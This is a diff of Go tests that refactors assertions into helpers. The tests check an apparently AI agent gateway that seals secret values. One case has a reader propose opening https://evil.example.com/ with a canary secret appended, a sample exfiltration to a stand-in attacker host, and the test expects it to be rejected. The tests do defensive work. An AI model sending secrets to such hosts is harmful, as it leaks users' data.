@@ -142,9 +142,8 @@ func TestSealedTypesAreChecked(t *testing.T) {
 		d := definition()
 		tool.Service, tool.Name, tool.Level, tool.RequiredCaps = "s", "new", kernel.Read, caps("look")
 		d.Tools = append(d.Tools, tool)
-		if _, defects := kernel.New(d); len(defects) != 1 || defects[0].Code != kernel.BadType {
-			t.Errorf("%s: %v", name, defects)
-		}
+		_, defects := kernel.New(d)
+		failIf(t, len(defects) != 1 || defects[0].Code != kernel.BadType, "%s: %v", name, defects)
 	}
 	url := openLink.Input.Fields[0].Type
 	for uri, want := range map[string]bool{
@@ -202,17 +201,15 @@ func TestSealedValuesAreNotTold(t *testing.T) {
 		"what a Reader says of elsewhere": {nil, func(g *gateway) {
 			g.plan(steps(page, readLink, `{"kind":"tool","id":"open","tool":"open","args":{"url":{"ref":"l","path":"url"}}}`))
 			g.result(strings.ReplaceAll(result, canary, "other"))
-			if c := g.answer(`{"url":"https://evil.example.com/`+canary+`","sure":true}`, ""); c.Told == nil || c.Told.Code != kernel.BadArguments {
-				g.t.Fatalf("got %+v", c)
-			}
+			c := g.answer(`{"url":"https://evil.example.com/`+canary+`","sure":true}`, "")
+			stopIf(g.t, c.Told == nil || c.Told.Code != kernel.BadArguments, "got %+v", c)
 		}},
 		"a person": {asks, func(g *gateway) {
 			g.plan(all)
 			g.result(result)
 			item := g.state.Items()[0]
-			if !bytes.Contains(item.Content, []byte(canary)) || !item.Effect.Arguments[1].Sealed || item.Effect.Arguments[0].Sealed {
-				g.t.Fatalf("a person is shown %s %+v", item.Content, item.Effect.Arguments)
-			}
+			stopIf(g.t, !bytes.Contains(item.Content, []byte(canary)) || !item.Effect.Arguments[1].Sealed || item.Effect.Arguments[0].Sealed,
+				"a person is shown %s %+v", item.Content, item.Effect.Arguments)
 			g.person(kernel.Approve, "")
 			g.result("true")
 			g.person(kernel.Reject, "")
@@ -227,15 +224,13 @@ func TestSealedValuesAreNotTold(t *testing.T) {
 		}},
 		"a host that nobody named": {nil, func(g *gateway) {
 			g.plan(steps(page, open))
-			if c := g.result(strings.Replace(result, "shop", "evil", 1)); c.Told == nil || c.Told.Code != kernel.BadArguments {
-				g.t.Fatalf("got %+v", c.Told)
-			}
+			c := g.result(strings.Replace(result, "shop", "evil", 1))
+			stopIf(g.t, c.Told == nil || c.Told.Code != kernel.BadArguments, "got %+v", c.Told)
 		}},
 		"nothing there": {nil, func(g *gateway) {
 			g.plan(steps(page, open))
-			if c := g.result(strings.Replace(result, `"https://shop.example.com/`+canary+`"`, "null", 1)); c.Told == nil || c.Told.Code != kernel.BadArguments {
-				g.t.Fatalf("got %+v", c.Told)
-			}
+			c := g.result(strings.Replace(result, `"https://shop.example.com/`+canary+`"`, "null", 1))
+			stopIf(g.t, c.Told == nil || c.Told.Code != kernel.BadArguments, "got %+v", c.Told)
 		}},
 		"a sink that fails": {nil, func(g *gateway) {
 			g.plan(all)
@@ -265,9 +260,8 @@ func TestSealedValuesAreNotTold(t *testing.T) {
 			}
 		}
 		for _, c := range g.changes {
-			if open := c.AppendJSON(nil); bytes.Contains(open, []byte(canary)) {
-				t.Errorf("%s: the open part of a record is %s", name, open)
-			}
+			open := c.AppendJSON(nil)
+			failIf(t, bytes.Contains(open, []byte(canary)), "%s: the open part of a record is %s", name, open)
 		}
 		for _, r := range g.records {
 			failIf(t, bytes.Contains(r[0], []byte(canary)), "%s: %s", name, r[0])
